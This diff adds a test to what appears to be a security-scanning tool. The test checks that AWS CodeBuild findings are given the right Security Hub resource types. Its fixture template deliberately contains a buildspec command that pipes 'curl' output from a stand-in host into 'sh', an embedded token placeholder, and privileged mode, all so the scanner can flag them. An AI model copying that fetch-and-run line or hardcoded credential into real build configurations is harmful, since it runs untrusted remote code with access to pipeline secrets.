@@ -287,3 +287,46 @@ def test_repository_path(root, path, expected):
 )
 def test_cloudformation_types_map_to_security_hub_resource_types(cfn_type, asff_type):
     assert cloudformation_resource_type(cfn_type) == asff_type
+
+
+def test_codebuild_projects_are_aws_codebuild_project_resources(tmp_path):
+    """A project in a template (its inline buildspec's findings too) and create-project JSON
+    are AwsCodeBuildProject; a buildspec file and a source credential are Other."""
+    write_file(tmp_path, "ci/buildspec.yml", "version: 0.2\nphases:\n  install:\n"
+               "    runtime-versions: {nodejs: 14}\n")  # fmt: skip
+    write_file(
+        tmp_path,
+        "ci/template.yaml",
+        "Resources:\n  Build:\n    Type: AWS::CodeBuild::Project\n    Properties:\n"
+        "      Environment: {Image: aws/codebuild/standard:7.0, PrivilegedMode: true}\n"
+        "      Source:\n        Type: NO_SOURCE\n        BuildSpec: |\n          version: 0.2\n"
+        "          phases: {build: {commands: [curl -s https://x.example | sh]}}\n"
+        "  Credential:\n    Type: AWS::CodeBuild::SourceCredential\n"
+        "    Properties: {Token: ghp_Zq4nW8tRk2LmX7vB1cYp9sD3fH6jK0aQe5Uu}\n",
+    )
+    project = {
+        "name": "shop",
+        "source": {"type": "CODECOMMIT"},
+        "environment": {"image": "aws/codebuild/standard:4.0", "computeType": "SMALL"},
+        "artifacts": {"type": "NO_ARTIFACTS"},
+    }
+    write_file(tmp_path, "ci/project.json", json.dumps(project))
+    result = run_scan(tmp_path / "ci")
+    report = json.loads(asff.render(result, asff_account="123456789012", asff_region="eu-west-1"))
+    model = botocore.session.get_session().get_service_model("securityhub")
+    shape = model.operation_model("BatchImportFindings").input_shape
+    assert not ParamValidator().validate(report, shape).has_errors()
+    resources = {
+        (f["GeneratorId"], f["ProductFields"]["guardlint/Path"]): f["Resources"][0]
+        for f in report["Findings"]
+    }
+    assert {key: r["Type"] for key, r in resources.items()} == {
+        ("CBD010", "buildspec.yml"): "Other",
+        ("CBD001", "template.yaml"): "AwsCodeBuildProject",
+        ("CBD004", "template.yaml"): "AwsCodeBuildProject",
+        ("CBD008", "template.yaml"): "Other",
+        ("CBD010", "project.json"): "AwsCodeBuildProject",
+    }
+    assert resources["CBD010", "project.json"]["Details"] == {
+        "AwsCodeBuildProject": {"Name": "shop"}
+    }
